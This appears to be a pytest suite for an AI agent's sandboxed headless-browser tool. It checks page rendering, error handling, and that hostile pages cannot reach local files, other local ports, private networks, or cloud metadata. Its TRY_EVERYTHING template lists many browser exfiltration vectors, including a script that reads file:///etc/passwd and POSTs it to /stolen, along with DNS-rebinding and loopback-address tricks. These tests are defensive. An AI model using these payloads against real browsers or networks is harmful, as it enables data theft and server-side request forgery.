"""Real browsers, headless, on pages of a site on loopback that the tests own."""

from __future__ import annotations

import gzip
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import psutil
import pytest

from autogpt.core.errors import CommandError
from autogpt.http import Admission, Door
from autogpt.web.browser import WebBrowser, Wish
from autogpt.web.browser_kinds import programs
from autogpt.web.pages import read_page
from tests.http.servers import PUBLIC, Request, Server, World, redirect, reply
from tests.web.conftest import AGENT, launch
from tests.web.site import Ear, Page, html, site

Put = Callable[..., Server]

real = pytest.mark.real
CHECKOUT = Path(__file__).parents[2]


# -- what a page becomes -----------------------------------------------------------------------


@real
def test_text_that_scripts_make_in_several_steps(browser: WebBrowser, put: Put) -> None:
    server = put(
        site(
            {
                "/": "<title>Old</title><p id=p>start</p><script src=/s.js></script>",
                "/s.js": lambda _: reply(
                    b"""fetch('/data').then(r => r.json()).then(d => setTimeout(() => {
                        document.title = 'New'; p.textContent = d.said + ' ' + navigator.userAgent; }, 50))""",
                    Content_Type="text/javascript",
                ),
                "/data": lambda _: reply(b'{"said": "from the server"}', Content_Type="application/json"),
            }
        )
    )
    loaded = browser.load("http://example.com/?a=1#part")
    assert loaded.url == "http://example.com/?a=1#part"
    assert loaded.title == "New"
    assert f"from the server {AGENT}" in loaded.html
    assert {request.headers["user-agent"] for request in server.requests} == {AGENT}


@real
@pytest.mark.parametrize("way", ["/moved", "/meta", "/script"])
def test_redirects_of_every_kind(browser: WebBrowser, put: Put, way: str) -> None:
    put(
        site(
            {
                "/moved": lambda _: redirect("http://other.example/there"),
                "/meta": "<meta http-equiv=refresh content='0;url=http://other.example/there'>",
                "/script": "<script>location.href = 'http://other.example/there'</script>",
            }
        )
    )
    put(site({"/there": "arrived"}), "other.example", address="93.184.215.15")
    loaded = browser.load(f"http://example.com{way}")
    assert loaded.url == "http://other.example/there"
    assert "arrived" in loaded.html


@real
def test_frames_and_shadow_trees(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/": """<p>outer</p><iframe src=/inner></iframe><iframe src=http://other.example/></iframe>
                    <iframe srcdoc='<p>written inside</p>'></iframe><x-box><b>light</b></x-box>
                    <script>customElements.define('x-box', class extends HTMLElement {
                      constructor() { super(); const s = this.attachShadow({mode: 'open'});
                        s.innerHTML = '<style>p{}</style><p>in the shadow</p><x-inner></x-inner>'; } });
                    customElements.define('x-inner', class extends HTMLElement {
                      connectedCallback() { this.attachShadow({mode: 'open'}).innerHTML = '<p>deeper</p>'; } });
                    </script>""",
                "/inner": "<p>within</p><iframe src=/innermost></iframe>",
                "/innermost": "<p>innermost</p>",
            }
        )
    )
    put(site({"/": "<p>of another origin</p>"}), "other.example", address="93.184.215.15")
    loaded = browser.load("http://example.com/")
    text = read_page(loaded.html, loaded.url).text
    for words in ("outer", "within", "innermost", "written inside", "in the shadow", "deeper", "light"):
        assert words in text
    assert "of another origin" not in text


@real
def test_cookies_stay_for_the_run(browser: WebBrowser, put: Put) -> None:
    def door_keeper(request: Request) -> bytes:
        if "ticket=1" in request.headers.get("cookie", ""):
            return html("welcome back")
        return html("<form>log in</form>", Set_Cookie="ticket=1; Path=/")

    put(door_keeper, "keeper.example")
    assert "log in" in browser.load("http://keeper.example/").html
    assert "welcome back" in browser.load("http://keeper.example/").html


@real
def test_dialogs_do_not_stop_it(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/": """<p id=p></p><script>alert(1); const c = confirm('sure?'), w = prompt('who?', 'me');
                    p.textContent = `${c} ${w}`;
                    addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'stay'; });
                    setTimeout(() => { alert('late'); p.append(' after'); }, 50);</script>""",
                "/next": "next",
            }
        )
    )
    assert "false null" in browser.load("http://example.com/").html
    assert "next" in browser.load("http://example.com/next").html


@real
def test_pop_ups_are_closed(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/": """<p>main</p><script>for (let i = 0; i < 5; i++) window.open('/up' + i, '_blank');
                    const a = document.createElement('a'); a.href = '/up'; a.target = '_blank'; a.click();</script>""",
                "/up": "up",
            }
        )
    )
    assert "main" in browser.load("http://example.com/").html
    assert browser._session is not None
    assert len(browser._session._driver.window_handles) == 1
    assert "main" in browser.load("http://example.com/").html


@real
def test_endless_scrolling_ends(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/": """<div id=d></div><script>let n = 0;
                    const more = () => { for (let i = 0; i < 30; i++) { const p = document.createElement('p');
                      p.style.height = '100px'; p.textContent = `entry ${n++}.`; d.append(p); } };
                    more(); addEventListener('scroll', () => {
                      if (scrollY + innerHeight > document.documentElement.scrollHeight - 300) more(); });</script>"""
            }
        )
    )
    text = browser.load("http://example.com/").html
    assert "entry 45." in text
    assert "entry 400." not in text


@real
def test_what_never_ends_is_not_waited_for(browser: WebBrowser, put: Put) -> None:
    over = threading.Event()

    def never(request: Request) -> Iterator[bytes]:
        yield b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n"
        over.wait(60)

    put(
        site(
            {
                "/": "<p>text</p><img src=/never><script>setInterval(() => document.body.append('.'), 20)</script>",
                "/never": never,
            }
        )
    )
    begun = time.monotonic()
    try:
        assert "text" in browser.load("http://example.com/").html
    finally:
        over.set()
    assert time.monotonic() - begun < 30


@real
def test_a_huge_page_is_cut(browser: WebBrowser, put: Put) -> None:
    put(site({"/": "<p>beginning</p>" + f"<p>{'more and more ' * 10}</p>" * 30_000 + "the end"}))
    loaded = browser.load("http://example.com/")
    assert "beginning" in loaded.html
    assert "the end" not in loaded.html
    assert len(loaded.html) == 3_000_000


@real
def test_broken_markup_encodings_and_compression(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/broken": "<table><p>text</b></i><div <a href=x>link<!-- <p>unclosed",
                "/latin": lambda _: html("Größe".encode("latin-1"), Content_Type="text/html; charset=iso-8859-1"),
                "/japanese": "<meta charset=shift_jis><p>日本語</p>".encode("shift_jis"),
                "/russian": "<meta charset=windows-1251><p>Привет</p>".encode("cp1251"),
                "/packed": lambda _: html(gzip.compress("<p>gepäckt</p>".encode()), Content_Encoding="gzip",
                                          Content_Type="text/html; charset=utf-8"),
            }
        )
    )  # fmt: skip
    for page, words in {
        "broken": "text",
        "latin": "Größe",
        "japanese": "日本語",
        "russian": "Привет",
        "packed": "gepäckt",
    }.items():
        assert words in browser.load(f"http://example.com/{page}").html


# -- what is no page ---------------------------------------------------------------------------


@real
@pytest.mark.parametrize(
    ("status", "words"),
    [
        ("401 Unauthorized", "wants a login"),
        ("404 Not Found", "There is no page"),
        ("429 Too Many Requests", "asks to be left alone"),
        ("500 Internal Server Error", "has failed"),
    ],
)
def test_refusals_are_said(browser: WebBrowser, put: Put, status: str, words: str) -> None:
    put(
        lambda _: html(
            "<p>sorry</p>",
            status,
            Retry_After="120",
            WWW_Authenticate="Basic realm=x" if "401" in status else "-",
        )
    )
    with pytest.raises(CommandError, match=words):
        browser.load("http://example.com/page")


@real
def test_a_test_for_robots_that_lets_it_through(browser: WebBrowser, put: Put) -> None:
    def challenge(request: Request) -> bytes:
        if "passed=1" in request.headers.get("cookie", ""):
            return html("the page itself")
        return html(
            "checking your browser<script>setTimeout(() => { document.cookie = 'passed=1'; location.reload(); }, 900)</script>",
            "403 Forbidden",
        )

    put(challenge, "guarded.example")
    assert "the page itself" in browser.load("http://guarded.example/").html


@real
def test_downloads_are_not_taken(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/file": lambda _: reply(
                    b"\x00" * 1000,
                    Content_Type="application/octet-stream",
                    Content_Disposition="attachment; filename=canary-download.bin",
                ),
                "/": "<p>page</p><a id=a href=/file download=canary-download.bin>x</a><script>a.click()</script>",
            }
        )
    )
    with pytest.raises(CommandError, match="holds a file and not a page"):
        browser.load("http://example.com/file")
    assert "page" in browser.load("http://example.com/").html
    assert browser._session is not None
    assert not any("canary-download" in path.name for path in _files_of(browser))


def _files_of(browser: WebBrowser) -> list[Path]:
    """Every temporary file that is there behind the wall."""
    assert browser._session is not None
    place = browser._session._place
    for process in psutil.Process(place._popen.pid).children(recursive=True):  # type: ignore[attr-defined]
        with suppress(OSError):
            files = list(Path(f"/proc/{process.pid}/root/tmp").rglob("*"))
            if files:
                return files
    raise AssertionError("no profile is to be seen")


@real
@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd", "chrome://version", "about:config", "view-source:http://example.com/", "data:text/html,x",
        "javascript:alert(1)", "http://127.0.0.1:1@example.com/", "ftp://example.com/",
    ],
)  # fmt: skip
def test_only_the_web_is_opened(browser: WebBrowser, address: str) -> None:
    with pytest.raises(CommandError):
        browser.load(address)


@real
def test_a_page_cannot_lead_out_of_the_web(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/": """<p>page</p><iframe src=file:///etc/passwd></iframe><script>
                    for (const url of ['file:///etc/passwd', 'chrome://version', 'about:config', 'view-source:http://example.com/'])
                      try { location.href = url } catch (e) {}
                    </script>"""
            }
        )
    )
    try:
        loaded = browser.load("http://example.com/")
    except CommandError:
        return  # it left for nowhere
    assert loaded.url == "http://example.com/"
    assert "root:" not in loaded.html


@real
def test_a_page_that_hangs_or_lies_does_no_harm(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/hang": "<p>text</p><script>addEventListener('load', () => setTimeout(() => { for (;;); }))</script>",
                "/lie": """<p>text</p><script>String.prototype.slice = () => 'x'.repeat(1e8);
                    Document.prototype.querySelectorAll = () => { throw 1 };
                    performance.getEntriesByType = () => [{responseStatus: 'many'}];
                    Element.prototype.attachShadow = null; Object.defineProperty(document, 'title', {value: 7});</script>""",
                "/fine": "fine",
            }
        )
    )
    with pytest.raises(CommandError, match="gave up"):
        browser.load("http://example.com/hang")
    with suppress(CommandError):
        assert len(browser.load("http://example.com/lie").html) <= 3_000_000
    assert "fine" in browser.load("http://example.com/fine").html


@real
def test_servers_that_are_not_there(browser: WebBrowser, shared_world: World, put: Put) -> None:
    with pytest.raises(CommandError, match=r"There is no host 'nowhere\.example'"):
        browser.load("http://nowhere.example/")
    shared_world.names["deaf.example"] = ["93.184.215.99"]
    for scheme in ("http", "https"):
        with pytest.raises(CommandError, match="refuses connections"):
            browser.load(f"{scheme}://deaf.example/")


# -- where it can't get ------------------------------------------------------------------------

TRY_EVERYTHING = """
<title>hostile</title><p id=p>page</p>
<link rel=stylesheet href="{url}/css"><link rel=preload as=fetch href="{url}/preload"><link rel=prefetch href="{url}/prefetch">
<link rel=preconnect href="{url}"><link rel=dns-prefetch href="{url}"><link rel=icon href="{url}/icon">
<img src="{url}/img"><iframe src="{url}/frame"></iframe><object data="{url}/object"></object><embed src="{url}/embed">
<video src="{url}/video"></video><audio src="{url}/audio"></audio><script src="{url}/script"></script>
<form id=f action="{url}/form" method=post target=sink><input name=a></form><iframe name=sink></iframe>
<div style="background:url('{url}/background')">x</div><style>@import url('{url}/imported');
@font-face {{ font-family: f; src: url('{url}/font') }} #p {{ font-family: f }}</style>
<svg><image href="{url}/svg"/><use href="{url}/use#x"/></svg><link rel=manifest href="{url}/manifest">
<link rel=modulepreload href="{url}/modulepreload"><track src="{url}/track"><input type=image src="{url}/input">
<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:{url}/source"></iframe><a id=a href="#x" ping="{url}/ping">a</a>
<iframe srcdoc="<script>fetch('{url}/srcdoc', {{mode: 'no-cors'}})</script>"></iframe>
<iframe src="data:text/html,<script>fetch('{url}/data', {{mode: 'no-cors'}})</script>"></iframe>
<script type=speculationrules>{{"prefetch": [{{"urls": ["{url}/speculated"]}}], "prerender": [{{"urls": ["{url}/prerendered"]}}]}}</script>
<script>
const quietly = what => {{ try {{ const r = what(); if (r && r.catch) r.catch(() => 0); }} catch (e) {{}} }};
quietly(() => fetch('{url}/fetch', {{mode: 'no-cors'}}));
quietly(() => fetch('{url}/post', {{method: 'POST', mode: 'no-cors', body: 'x'}}));
quietly(() => navigator.sendBeacon('{url}/beacon', 'x'));
quietly(() => {{ const x = new XMLHttpRequest(); x.open('GET', '{url}/xhr'); x.send(); }});
quietly(() => new WebSocket('{url}/ws'.replace('http', 'ws')));
quietly(() => new EventSource('{url}/events'));
quietly(() => new WebTransport('{url}/transport'.replace('http:', 'https:')));
quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('{url}/worker', {{mode: 'no-cors'}})"]))));
quietly(() => new SharedWorker(URL.createObjectURL(new Blob(["fetch('{url}/shared', {{mode: 'no-cors'}})"]))));
quietly(() => navigator.serviceWorker.register('/service.js?to=' + encodeURIComponent('{url}/service')));
quietly(() => fetch('{url}/kept', {{mode: 'no-cors', keepalive: true}}));
quietly(() => fetch('file:///etc/passwd').then(r => r.text()).then(t => fetch('/stolen', {{method: 'POST', body: t}})));
quietly(() => a.click());
quietly(() => window.open('{url}/open'));
quietly(() => f.submit());
quietly(() => import('{url}/module'));
quietly(() => {{ const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{host}'}}, {{urls: 'turn:{host}?transport=tcp', username: 'u', credential: 'c'}}]}});
  c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)); }});
</script>
"""


@pytest.fixture
def ear() -> Iterator[Ear]:
    made = Ear()
    yield made
    made.close()


@pytest.fixture(params=["walled", "not walled"])
def confined(request: pytest.FixtureRequest, path: str) -> Iterator[Callable[[str, Door], WebBrowser]]:
    """Makes browsers with and without bubblewrap around them."""
    made: list[WebBrowser] = []

    def make(kind: str, door: Door) -> WebBrowser:
        browser = launch(kind, door, path, wall=request.param == "walled")
        made.append(browser)
        return browser

    yield make
    for browser in made:
        browser.close()


@real
@pytest.mark.slow
@pytest.mark.parametrize("kind", ["chrome", "firefox"])
def test_a_page_on_this_machine_reaches_no_other_port_of_it(
    confined: Callable[[str, Door], WebBrowser], kind: str, ear: Ear
) -> None:
    """The door, the addresses and the sockets are real here; only the page's own port is allowed."""
    hosts = [
        "127.0.0.1",
        "localhost",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0.0.0.0",
        "[::1]",
        "[::ffff:127.0.0.1]",
    ]
    tried = [
        TRY_EVERYTHING.format(url=f"http://{host}:{ear.port}", host=f"{host}:{ear.port}") for host in hosts
    ]
    reports = {
        "NEL": '{"report_to":"r","max_age":9,"success_fraction":1}',
        "Content-Security-Policy-Report-Only": f"img-src 'none'; report-uri http://127.0.0.1:{ear.port}/violation",
        "Report-To": f'{{"group":"r","max_age":9,"endpoints":[{{"url":"http://localhost:{ear.port}/report"}}]}}',
        "Link": f"<http://127.0.0.1:{ear.port}/linked>; rel=preload; as=script",
    }
    pages: dict[str, Page] = {
        "/some": lambda _: html("".join(tried[::2]), **reports),
        "/others": lambda _: html("".join(tried[1::2]), **reports),
    }
    work = "const to = new URL(location).searchParams.get('to'); const go = () => fetch(to, {mode: 'no-cors'}).catch(() => 0);"
    workers: dict[str, Page] = {
        "/service.js": lambda _: reply(
            f"{work} oninstall = e => {{ skipWaiting(); e.waitUntil(go()); }}; onactivate = go; go();".encode(),
            Content_Type="text/javascript",
        )
    }
    leads: dict[str, Page] = {
        "/moved": lambda _: redirect(f"http://127.0.0.1:{ear.port}/moved"),
        "/metadata": lambda _: redirect("http://169.254.169.254/latest/meta-data/"),
        "/meta": f"<meta http-equiv=refresh content='0;url=http://localhost:{ear.port}/meta'>",
        "/script": f"<script>location = 'http://0.0.0.0:{ear.port}/script'</script>",
    }
    server = Server(site(pages | workers | leads))
    try:
        own = f"127.0.0.1:{server.port}"
        browser = confined(kind, Door(admission=Admission(hosts=frozenset({own}))))
        for page in pages:
            loaded = browser.load(f"http://{own}{page}")
            assert loaded.title == "hostile"
        for lead in leads:
            with pytest.raises(CommandError, match=r"is not reached|leads to"):
                browser.load(f"http://{own}{lead}")
        browser.close()
    finally:
        server.close()
    assert ear.heard == []
    assert not [request for request in server.requests if request.path == "/stolen"]
    assert [request for request in server.requests if request.path.startswith("/service.js")], "it was tried"


@real
def test_a_page_of_the_internet_reaches_nothing_of_the_persons(
    browser: WebBrowser, shared_world: World, put: Put
) -> None:
    """Not even where the person allowed the private network for themselves."""
    rounds = iter([[PUBLIC]] + [["127.0.0.1"]] * 50)
    urls = [
        "http://10.0.0.5",
        "http://127.0.0.1:8080",
        "http://intranet",
        "https://192.168.0.1",
        "http://rebind.example:81",
    ]
    page = "".join(TRY_EVERYTHING.format(url=url, host=url.partition("//")[2]) for url in urls)
    put(site({"/": page}), "rebind.example")
    put(site({"/": "router"}), "router.internal", address="192.168.0.1")
    shared_world.names["rebind.example"] = lambda: next(rounds)
    shared_world.connected.clear()
    loaded = browser.load("http://rebind.example/")
    assert loaded.title == "hostile"
    assert {address for address, _ in shared_world.connected} == {PUBLIC}
    assert "router" in browser.load("http://router.internal/").html


@real
def test_a_page_that_was_left_does_nothing_any_more(browser: WebBrowser, put: Put) -> None:
    put(
        site(
            {
                "/": "<p>page</p><script>setInterval(() => fetch('/tick?' + Math.random()), 30)</script>",
                "/tick": "tick",
                "/next": "next",
            }
        )
    )
    server = put(site({"/": "x"}), "unused.example", 81)
    browser.load("http://example.com/")
    assert browser._session is not None
    assert browser._session.url() == "about:blank"
    assert browser._session.relay.is_idle()
    assert server.requests == []


@real
@pytest.mark.slow
@pytest.mark.parametrize("kind", ["chrome", "firefox"])
def test_a_worker_of_a_page_that_was_left_does_nothing_any_more(
    confined: Callable[[str, Door], WebBrowser], kind: str
) -> None:
    """A service worker outlives its page; on this machine a page may have one without TLS."""
    ticks = threading.Event()
    served: list[str] = []

    def held(request: Request) -> bytes:  # the page is not left before the worker works
        ticks.wait(6)
        return reply(b"", Content_Type="image/png")

    def tick(request: Request) -> bytes:
        served.append(request.path)
        ticks.set()
        return reply(b"tick")

    script = b"const go = () => fetch('/tick', {cache: 'no-store'}).catch(() => 0).then(() => setTimeout(go, 20)); go();"
    work: dict[str, Page] = {
        "/": "<p>page</p><img src=/held><script>navigator.serviceWorker.register('/work.js'); new SharedWorker('/work.js')</script>",
        "/work.js": lambda _: reply(script, Content_Type="text/javascript"),
        "/tick": tick,
        "/held": held,
    }
    server = Server(site(work))
    try:
        browser = confined(kind, Door(admission=Admission(hosts=frozenset({f"127.0.0.1:{server.port}"}))))
        browser.load(f"http://127.0.0.1:{server.port}/")
        assert ticks.is_set(), "the worker works while its page is there"
        assert browser._session is not None
        assert browser._session.relay.is_idle()
        # What had reached the server before the relay closed may still be served: once, not again and again.
        assert any(not _more(served) for _ in range(3)), served
    finally:
        server.close()


def _more(served: list[str]) -> bool:
    """Whether another request comes within a second."""
    before, until = len(served), time.monotonic() + 1
    while len(served) == before and time.monotonic() < until:
        time.sleep(0.02)
    return len(served) > before


# -- its beginning and its end -----------------------------------------------------------------


@real
@pytest.mark.parametrize("kind", ["chrome", "firefox"])
@pytest.mark.parametrize("wall", [True, False])
def test_nothing_is_left_of_it(kind: str, wall: bool, path: str, shared_world: World, put: Put) -> None:
    put(site({"/": "page"}))
    before = _temporary_files(os.getpid())
    browser = launch(kind, shared_world.door(), path, wall=wall)
    browser.load("http://example.com/")
    assert browser._session is not None
    popen = browser._session._place._popen  # type: ignore[attr-defined]
    processes = [popen.pid, *(child.pid for child in psutil.Process(popen.pid).children(recursive=True))]
    assert len(processes) > 3
    browser.close()
    browser.close()
    assert not any(map(_runs, processes))
    assert _temporary_files(os.getpid()) <= before
    with pytest.raises(CommandError, match="the run is ending"):
        browser.load("http://example.com/")


KILLED = """
import http.server, json, sys, threading
from autogpt.http import Admission, Door
from autogpt.web.browser import WebBrowser, Wish

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"page")
    def log_message(self, *more):
        pass

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
own = f"127.0.0.1:{server.server_port}"
kind, path, wall = sys.argv[1:]
browser = WebBrowser(Wish(kind, environ={"PATH": path}, wall=wall == "True"), Door(admission=Admission(hosts=frozenset({own}))))
print(json.dumps(browser.load(f"http://{own}/").html), flush=True)
sys.stdin.read()
"""


@real
@pytest.mark.parametrize("wall", [True, False])
@pytest.mark.parametrize("kind", ["chrome", "firefox"])
def test_nothing_is_left_of_it_when_the_agent_is_killed(kind: str, wall: bool, path: str) -> None:
    try:
        programs(kind, path)
    except CommandError as missing:
        pytest.skip(str(missing))
    before = _temporary_files(0)
    agent = subprocess.Popen(
        [sys.executable, "-c", KILLED, kind, path, str(wall)],
        cwd=CHECKOUT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    with agent:
        assert agent.stdout
        assert "page" in json.loads(agent.stdout.readline())
        processes = [child.pid for child in psutil.Process(agent.pid).children(recursive=True)]
        assert len(processes) > 3
        os.kill(agent.pid, signal.SIGKILL)
    until = time.monotonic() + 20
    while (
        any(map(_runs, processes)) or not _temporary_files(agent.pid) <= before
    ) and time.monotonic() < until:
        threading.Event().wait(0.02)
    assert not any(map(_runs, processes))
    assert _temporary_files(agent.pid) <= before


@real
@pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap isn't installed")
def test_it_works_for_a_person_without_rights_where_nothing_can_be_walled(path: str, tmp_path: Path) -> None:
    """As in a container: not root, no capabilities, no namespaces to be made, a system that is read-only."""
    try:
        programs("chrome", path)
    except CommandError as missing:
        pytest.skip(str(missing))
    wall = "bwrap --unshare-user --uid 1000 --gid 1000 --disable-userns --unshare-pid --cap-drop ALL --ro-bind / / --proc /proc --dev /dev --tmpfs /tmp"
    for place in (CHECKOUT, sys.prefix):  # which may be below /tmp
        wall += f" --ro-bind {place} {place}"
    agent = subprocess.Popen(
        [*wall.split(), "--", sys.executable, "-c", KILLED, "chrome", path, "True"],
        cwd=CHECKOUT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    with agent:
        assert agent.stdout
        assert "page" in json.loads(agent.stdout.readline())


def _runs(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def _temporary_files(pid: int) -> set[str]:
    """What an agent of that number has left, and what browsers leave in the folder for passing files."""
    names = (f"autogpt-sandbox-{pid}-", ".org.chromium", "org.chromium", "rust_mozprofile", "scoped_dir")
    return {entry.name for entry in os.scandir(tempfile.gettempdir()) if entry.name.startswith(names)}


# -- where there is none -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("chrome", "install Chromium and its driver"),
        ("firefox", "install Firefox and geckodriver"),
        ("edge", "install Microsoft Edge"),
    ],
)
def test_what_to_install_is_said(tmp_path: Path, kind: str, words: str) -> None:
    browser = WebBrowser(Wish(kind, environ={"PATH": str(tmp_path)}), Door())
    if Path("/usr/lib/chromium/chromedriver").exists() and kind == "chrome":
        words = "the browser chrome isn't installed"
    with pytest.raises(CommandError, match=words):
        browser.load("http://example.com/")


@pytest.mark.skipif(sys.platform == "darwin", reason="there is a Safari here")
def test_safari_is_for_macos() -> None:
    with pytest.raises(CommandError, match="macOS only"):
        WebBrowser(Wish("safari"), Door()).load("http://example.com/")


@real
def test_a_driver_that_does_not_work(tmp_path: Path, path: str) -> None:
    for name in ("chromium", "chromedriver"):
        (tmp_path / name).write_text("#!/bin/sh\nexit 1\n")
        (tmp_path / name).chmod(0o755)
    browser = WebBrowser(Wish("chrome", environ={"PATH": str(tmp_path)}), Door())
    with pytest.raises(CommandError, match="could not be started"):
        browser.load("http://example.com/")
    browser.close()
